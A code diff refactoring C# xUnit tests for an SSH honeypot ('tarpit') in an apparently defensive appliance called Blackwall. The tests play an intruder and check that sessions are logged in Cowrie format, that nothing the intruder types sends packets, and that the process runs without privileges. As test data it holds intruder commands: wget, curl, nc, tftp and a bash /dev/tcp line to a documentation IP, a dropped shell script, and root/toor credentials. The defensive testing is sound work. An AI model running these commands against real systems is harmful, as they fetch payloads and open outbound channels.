@@ -1,13 +1,10 @@
 using System.Diagnostics;
 using System.Globalization;
-using System.Net;
 using System.Net.Http.Json;
-using System.Net.Sockets;
 using System.Security.Cryptography;
 using System.Text;
 using System.Text.Json.Nodes;
 using Blackwall.Bridges.Tarpit;
-using Blackwall.Tests.Api;
 using Microsoft.Extensions.DependencyInjection;
 using Xunit;
 
@@ -16,44 +13,25 @@ namespace Blackwall.Tests.Tarpit;
 /// <summary>The appliance with its tarpit in a process of its own, and the OpenSSH client as the attacker.</summary>
 public sealed class SessionTests : IDisposable
 {
-    private readonly int _port = FreePort();
-    private readonly ApplianceFactory _appliance;
-    private readonly HttpClient _api;
-
-    public SessionTests()
-    {
-        _appliance = new ApplianceFactory(string.Create(CultureInfo.InvariantCulture, $"""
-            [tarpit]
-            enabled = true
-            port = {FreePort()}
-            listen = ["127.0.0.1:{_port}"]
-            accept = "always"
-            delay_percent = 0
-            """));
-        _api = _appliance.Operator();
-    }
+    private readonly TarpitAppliance _tarpit = new("accept = \"always\"\ndelay_percent = 0");
 
     private static CancellationToken Cancellation => TestContext.Current.CancellationToken;
 
-    private TarpitSupervisor Supervisor => _appliance.Services.GetRequiredService<TarpitSupervisor>();
+    private TarpitSupervisor Supervisor => _tarpit.Supervisor;
 
-    public void Dispose()
-    {
-        _api.Dispose();
-        _appliance.Dispose();
-    }
+    public void Dispose() => _tarpit.Dispose();
 
     [Fact]
     public async Task What_an_intruder_did_is_told_by_the_api_and_in_cowries_format()
     {
-        await ServesAsync();
+        await _tarpit.ServesAsync();
         Assert.Equal("dropped\n", await AttackAsync("cat > /tmp/x.sh; sh /tmp/x.sh", "echo dropped\n"));
         JsonNode session = await FirstEndedAsync();
         Assert.Equal(("ssh", "127.0.0.1", "root"), ((string)session["protocol"]!, (string)session["source"]!, (string)session["user"]!));
         Assert.Equal((1, 1), ((int)session["logins"]!, (int)session["commands"]!));
 
         string id = (string)session["id"]!;
-        JsonArray events = (await _api.GetFromJsonAsync<JsonNode>($"sessions/{id}/events", Cancellation))!["items"]!.AsArray();
+        JsonArray events = await _tarpit.EventsAsync(session);
         Assert.Equal("connect", (string)events[0]!["kind"]!);
         JsonNode login = events.Single(happened => (string)happened!["kind"]! is "login")!;
         Assert.Equal(("root", "toor", true), ((string)login["user"]!, (string)login["secret"]!, (bool)login["success"]!));
@@ -61,21 +39,21 @@ public sealed class SessionTests : IDisposable
 
         string hash = Convert.ToHexStringLower(SHA256.HashData("echo dropped\n"u8));
         Assert.Equal([hash], session["files"]!.AsArray().Select(file => (string)file!));
-        Assert.Equal("echo dropped\n", await _api.GetStringAsync($"sessions/{id}/files/{hash}", Cancellation));
-        string[] cast = (await _api.GetStringAsync($"sessions/{id}/terminal", Cancellation)).Split('\n', StringSplitOptions.RemoveEmptyEntries);
+        Assert.Equal("echo dropped\n", await _tarpit.Api.GetStringAsync($"sessions/{id}/files/{hash}", Cancellation));
+        string[] cast = (await _tarpit.Api.GetStringAsync($"sessions/{id}/terminal", Cancellation)).Split('\n', StringSplitOptions.RemoveEmptyEntries);
         Assert.Equal(2, (int)JsonNode.Parse(cast[0])!["version"]!);
         Assert.Contains(cast.Skip(1), line => JsonNode.Parse(line) is JsonArray piece && (string)piece[1]! is "o" && (string)piece[2]! is "dropped\r\n");
 
-        string[] cowrie = [.. (await File.ReadAllLinesAsync(Path.Combine(_appliance.Folder, "sessions", "cowrie.json"), Cancellation)).Select(line => (string)JsonNode.Parse(line)!["eventid"]!)];
+        string[] cowrie = [.. (await File.ReadAllLinesAsync(Path.Combine(_tarpit.Factory.Folder, "sessions", "cowrie.json"), Cancellation)).Select(line => (string)JsonNode.Parse(line)!["eventid"]!)];
         Assert.Equal(["cowrie.session.connect", "cowrie.client.version", "cowrie.client.kex", "cowrie.login.success", "cowrie.command.input", "cowrie.session.file_upload", "cowrie.session.closed"], cowrie.Where(name => name is not "cowrie.client.var"));
-        JsonNode evidence = (await _api.GetFromJsonAsync<JsonNode>("events/history?kind=evidence", Cancellation))!;
+        JsonNode evidence = (await _tarpit.Api.GetFromJsonAsync<JsonNode>("events/history?kind=evidence", Cancellation))!;
         Assert.Contains(evidence["items"]!.AsArray(), item => item!.ToJsonString().Contains(TarpitTranslator.LoginKind, StringComparison.Ordinal));
     }
 
     [Fact]
     public async Task Nothing_that_an_intruder_types_sends_a_packet()
     {
-        await ServesAsync();
+        await _tarpit.ServesAsync();
         string[] downloads =
         [
             "wget http://192.0.2.80/x", "curl http://192.0.2.80/x", "nc 192.0.2.80 80", "ping -c1 192.0.2.80", "dig example.org", "tftp 192.0.2.80", "bash -c 'echo > /dev/tcp/192.0.2.80/80'",
@@ -89,14 +67,14 @@ public sealed class SessionTests : IDisposable
         Assert.Equal(0, await CounterAsync(folder + "snmp", "Tcp", "ActiveOpens"));
         Assert.Equal(0, await CounterAsync(folder + "snmp", "Udp", "OutDatagrams"));
         JsonNode session = await FirstEndedAsync();
-        JsonArray events = (await _api.GetFromJsonAsync<JsonNode>($"sessions/{(string)session["id"]!}/events", Cancellation))!["items"]!.AsArray();
+        JsonArray events = await _tarpit.EventsAsync(session);
         Assert.True(events.Count(happened => (string)happened!["kind"]! is "download") >= 8);
     }
 
     [Fact]
     public async Task A_process_that_dies_is_started_again_and_is_the_same_machine()
     {
-        await ServesAsync();
+        await _tarpit.ServesAsync();
         string before = await AttackAsync("hostname; cat /proc/sys/kernel/osrelease", "");
         int process = Supervisor.ProcessId;
         using (Process killed = Process.GetProcessById(process))
@@ -104,7 +82,7 @@ public sealed class SessionTests : IDisposable
             killed.Kill();
         }
 
-        await UntilAsync(() => Supervisor.ProcessId is var next && next != process && next != 0 && Supervisor.Fault is null);
+        await TarpitAppliance.UntilAsync(() => Supervisor.ProcessId is var next && next != process && next != 0 && Supervisor.Fault is null);
         Assert.Equal(before, await AttackAsync("hostname; cat /proc/sys/kernel/osrelease", ""));
         Assert.Equal(1, Supervisor.Read()["restarts"]);
     }
@@ -112,17 +90,17 @@ public sealed class SessionTests : IDisposable
     [Fact]
     public async Task A_process_that_is_killed_takes_nothing_with_it_that_was_recorded()
     {
-        await ServesAsync();
+        await _tarpit.ServesAsync();
         Assert.Equal("", await AttackAsync("wget http://192.0.2.80/dropper", ""));
         int process = Supervisor.ProcessId;
         using (Process killed = Process.GetProcessById(process))
         {
-            await UntilAsync(() => _appliance.Services.GetRequiredService<Blackwall.Sessions.SessionArchive>().List(null, DateTimeOffset.MaxValue, 5).Any(session => session.Commands == 1));
+            await TarpitAppliance.UntilAsync(() => _tarpit.Factory.Services.GetRequiredService<Blackwall.Sessions.SessionArchive>().List(null, DateTimeOffset.MaxValue, 5).Any(session => session.Commands == 1));
             killed.Kill();
         }
 
         JsonNode session = await FirstEndedAsync();
-        JsonArray events = (await _api.GetFromJsonAsync<JsonNode>($"sessions/{(string)session["id"]!}/events", Cancellation))!["items"]!.AsArray();
+        JsonArray events = await _tarpit.EventsAsync(session);
         Assert.Contains(events, happened => (string)happened!["kind"]! is "command" && (string)happened["text"]! is "wget http://192.0.2.80/dropper");
         Assert.Equal("close", (string)events[^1]!["kind"]!);
     }
@@ -130,22 +108,15 @@ public sealed class SessionTests : IDisposable
     [Fact]
     public async Task The_process_has_no_rights_and_ends_with_the_appliance()
     {
-        await ServesAsync();
+        await _tarpit.ServesAsync();
         string folder = string.Create(CultureInfo.InvariantCulture, $"/proc/{Supervisor.ProcessId}");
         Dictionary<string, string> status = (await File.ReadAllLinesAsync(folder + "/status", Cancellation)).Select(line => line.Split(':', 2)).ToDictionary(pair => pair[0], pair => pair[1].Trim(), StringComparer.Ordinal);
         Assert.Equal("64711\t64711\t64711\t64711", status["Uid"]);
         Assert.Equal("64711\t64711\t64711\t64711", status["Gid"]);
         Assert.All(new[] { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb" }, set => Assert.Equal("0000000000000000", status[set]));
         Assert.Equal(("1", "2"), (status["NoNewPrivs"], status["Seccomp"]));
-        await _appliance.DisposeAsync();
-        await UntilAsync(() => !Directory.Exists(folder));
-    }
-
-    private static int FreePort()
-    {
-        using Socket socket = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
-        socket.Bind(new IPEndPoint(IPAddress.Loopback, 0));
-        return ((IPEndPoint)socket.LocalEndPoint!).Port;
+        await _tarpit.Factory.DisposeAsync();
+        await TarpitAppliance.UntilAsync(() => !Directory.Exists(folder));
     }
 
     private static async Task<long> CounterAsync(string file, string protocol, string name)
@@ -154,38 +125,16 @@ public sealed class SessionTests : IDisposable
         return long.Parse(lines[1][Array.IndexOf(lines[0], name)], CultureInfo.InvariantCulture);
     }
 
-    private static async Task UntilAsync(Func<bool> condition)
-    {
-        while (!condition())
-        {
-            await Task.Delay(TimeSpan.FromMilliseconds(50), TimeProvider.System, Cancellation);
-        }
-    }
-
-    private Task ServesAsync() => UntilAsync(() => Supervisor.Fault is null);
-
-    private async Task<JsonNode> FirstEndedAsync()
-    {
-        while (true)
-        {
-            JsonNode list = (await _api.GetFromJsonAsync<JsonNode>("sessions?limit=5", Cancellation))!;
-            if (list["items"]!.AsArray().FirstOrDefault(session => session!["ended"] is not null) is { } ended)
-            {
-                return ended;
-            }
-
-            await Task.Delay(TimeSpan.FromMilliseconds(50), TimeProvider.System, Cancellation);
-        }
-    }
+    private Task<JsonNode> FirstEndedAsync() => _tarpit.SessionAsync(session => session["ended"] is not null);
 
     private async Task<string> AttackAsync(string command, string input)
     {
-        string ask = Path.Combine(_appliance.Folder, "ask");
+        string ask = Path.Combine(_tarpit.Factory.Folder, "ask");
         await File.WriteAllTextAsync(ask, "#!/bin/sh\necho toor\n", Encoding.ASCII, Cancellation);
         File.SetUnixFileMode(ask, UnixFileMode.UserRead | UnixFileMode.UserExecute | UnixFileMode.UserWrite);
         ProcessStartInfo start = new("ssh",
         [
-            "-F", "/dev/null", "-p", $"{_port}", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "PreferredAuthentications=password",
+            "-F", "/dev/null", "-p", $"{_tarpit.Port}", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "PreferredAuthentications=password",
             "-o", "NumberOfPasswordPrompts=1", "root@127.0.0.1", command,
         ])
         { RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
